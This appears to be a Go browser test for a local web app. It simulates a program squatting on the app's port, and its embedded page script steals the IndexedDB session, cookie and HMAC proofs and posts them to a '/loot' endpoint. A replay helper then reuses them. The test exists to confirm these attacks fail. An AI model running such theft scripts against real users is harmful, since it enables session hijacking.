package main

import (
	"context"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"sync"
	"testing"
	"time"

	"github.com/chromedp/chromedp"
	"github.com/coder/websocket"
	"github.com/coder/websocket/wsjson"
	"github.com/stretchr/testify/require"

	"atelier/internal/campaign"
)

// uiStranger is another program that has the port of a page. It answers as if it were
// the page's server, serves its own page, and keeps all that it gets.
type uiStranger struct {
	mu   sync.Mutex
	got  []strangerGot
	loot map[string]string // what its page could take out of the browser
	stop func()
}

type strangerGot struct {
	method, path, cookie, upgrade string
	body                          string
}

// strangerPage takes what a script at the page's address can: the cookie by a request,
// the session's id, a signature, and the key if the browser gives it.
const strangerPage = `<!doctype html><title>Atelier</title><p id=done></p><script>(async () => {
	const out = {};
	const db = await new Promise((done, fail) => { const o = indexedDB.open("atelier", 1); o.onsuccess = () => done(o.result); o.onerror = fail; });
	const it = await new Promise((done, fail) => { const g = db.transaction("session").objectStore("session").get("it"); g.onsuccess = () => done(g.result); g.onerror = fail; });
	out.session = it.session;
	out.cookie = document.cookie;
	for (const format of ["raw", "jwk"]) try { out.key = JSON.stringify(await crypto.subtle.exportKey(format, it.key)); } catch (e) { out["no " + format] = e.name; }
	const nonces = ["A".repeat(43), "B".repeat(43)];
	const text = new TextEncoder().encode(["atelier page", location.host, ...nonces].join("\n"));
	const b64 = (b) => btoa(String.fromCharCode(...new Uint8Array(b))).replaceAll("+", "-").replaceAll("/", "_").replaceAll("=", "");
	out.proof = b64(await crypto.subtle.sign("HMAC", it.key, text));
	await fetch("/session", {method: "POST", credentials: "include"});
	await fetch("/loot", {method: "POST", body: JSON.stringify(out)});
	document.getElementById("done").textContent = "taken";
})()</script>`

func (s *uiStranger) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	b, _ := io.ReadAll(r.Body)
	s.mu.Lock()
	s.got = append(s.got, strangerGot{r.Method, r.URL.Path, r.Header.Get("Cookie"), r.Header.Get("Upgrade"), string(b)})
	if r.URL.Path == "/loot" {
		json.Unmarshal(b, &s.loot)
	}
	s.mu.Unlock()
	switch r.URL.Path {
	case "/hello":
		w.Header().Set("Content-Type", "application/json")
		io.WriteString(w, `{"proof":"AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"}`)
	case "/":
		w.Header().Set("Content-Type", "text/html")
		io.WriteString(w, strangerPage)
	}
}

func (s *uiStranger) received() []strangerGot {
	s.mu.Lock()
	defer s.mu.Unlock()
	return append([]strangerGot{}, s.got...)
}

// startStranger listens on both loopback addresses.
func startStranger(t *testing.T, port string) *uiStranger {
	t.Helper()
	s := &uiStranger{}
	srv := &http.Server{Handler: s}
	for _, host := range []string{"127.0.0.1", "::1"} {
		l, err := net.Listen("tcp", net.JoinHostPort(host, port))
		if err != nil && host == "::1" {
			continue // a machine without IPv6
		}
		require.NoError(t, err)
		go srv.Serve(l)
	}
	s.stop = func() { srv.Close() }
	t.Cleanup(s.stop)
	return s
}

// useLoot tries to open a session at host with what the stranger has. It returns the
// status of the answer, or that with which the connection was closed.
func (s *uiStranger) useLoot(t *testing.T, host string, withCookie bool) int {
	t.Helper()
	ctx, cancel := context.WithTimeout(context.Background(), uiPatience)
	defer cancel()
	client := &http.Client{Transport: &http.Transport{DisableKeepAlives: true, DialContext: func(ctx context.Context, network, addr string) (net.Conn, error) {
		_, port, _ := net.SplitHostPort(addr)
		return (&net.Dialer{}).DialContext(ctx, network, net.JoinHostPort("127.0.0.1", port))
	}}}
	h := http.Header{"Origin": {"http://" + host}}
	if withCookie {
		h.Set("Cookie", s.loot["stolen"])
	}
	c, resp, err := websocket.Dial(ctx, "ws://"+host+"/session/ws", &websocket.DialOptions{HTTPClient: client, HTTPHeader: h})
	if err != nil {
		require.NotNil(t, resp, "%v", err)
		return resp.StatusCode
	}
	defer c.CloseNow()
	var hello struct{ Nonce string }
	require.NoError(t, wsjson.Read(ctx, c, &hello))
	require.NoError(t, wsjson.Write(ctx, c, map[string]string{"session": s.loot["session"], "nonce": fmt.Sprintf("%043d", 0), "proof": s.loot["proof"]}))
	var answer any
	err = wsjson.Read(ctx, c, &answer)
	require.Error(t, err, "it was let in: %v", answer)
	return int(websocket.CloseStatus(err))
}

// TestUIStrangerOnThePort: another program has the port after Atelier has ended. A page
// that connects again sends it no cookie and no message, only the session's id and a
// nonce. A person who opens the address gets that program's page: its script cannot
// take the key out, and what it takes opens no session, neither at the same address
// when Atelier has it again, nor at the new one when the port stays taken.
func TestUIStrangerOnThePort(t *testing.T) {
	campaign.Slow(t)
	_, p, page := workingUI(t)
	at, err := url.Parse(p.address)
	require.NoError(t, err)
	host, port := at.Host, at.Port()
	p.kill()
	stranger := startStranger(t, port)
	page.waitText("Another program answers here")
	page.field("Your message")
	page.keys("This is secret.\r")
	time.Sleep(2 * time.Second) // some more tries to connect
	for _, got := range stranger.received() {
		require.Equal(t, strangerGot{method: "POST", path: "/hello", body: got.body}, got)
		var body map[string]string
		require.NoError(t, json.Unmarshal([]byte(got.body), &body))
		require.Len(t, body, 2)
		require.NotEmpty(t, body["session"])
		require.NotEmpty(t, body["nonce"])
	}
	require.NotEmpty(t, stranger.received())

	// A person opens the address.
	require.NoError(t, chromedp.Do(page.ctx, chromedp.Reload()))
	page.waitFor(`document.getElementById("done")?.textContent === "taken"`, "the stranger's page has done what it can")
	require.Empty(t, stranger.loot["key"], "the key cannot be taken out")
	require.Equal(t, "InvalidAccessError", stranger.loot["no raw"])
	require.Empty(t, stranger.loot["cookie"], "scripts do not see the cookie")
	for _, got := range stranger.received() {
		if got.cookie != "" {
			require.Equal(t, "/session", got.path, "the cookie goes nowhere else")
			stranger.loot["stolen"] = got.cookie
		}
	}
	require.NotEmpty(t, stranger.loot["stolen"], "requests of its page to /session have the cookie")

	// Atelier has the port again.
	stranger.stop()
	p.start()
	again, err := url.Parse(p.address)
	require.NoError(t, err)
	require.Equal(t, host, again.Host)
	require.Equal(t, 4401, stranger.useLoot(t, host, true), "a signature of earlier nonces is of no use")
	require.Equal(t, http.StatusUnauthorized, stranger.useLoot(t, host, false))
	require.NoError(t, chromedp.Do(page.ctx, chromedp.Reload()))
	page.waitText("What should be done?") // the person's browser is let in as before

	// The port stays taken.
	p.kill()
	other := startStranger(t, port)
	p.start()
	moved, err := url.Parse(p.address)
	require.NoError(t, err)
	require.NotEqual(t, host, moved.Host)
	require.Equal(t, http.StatusUnauthorized, stranger.useLoot(t, moved.Host, true))
	page.waitText("Another program answers here")
	for _, got := range other.received() {
		require.Equal(t, "/hello", got.path)
		require.Empty(t, got.cookie)
	}
}
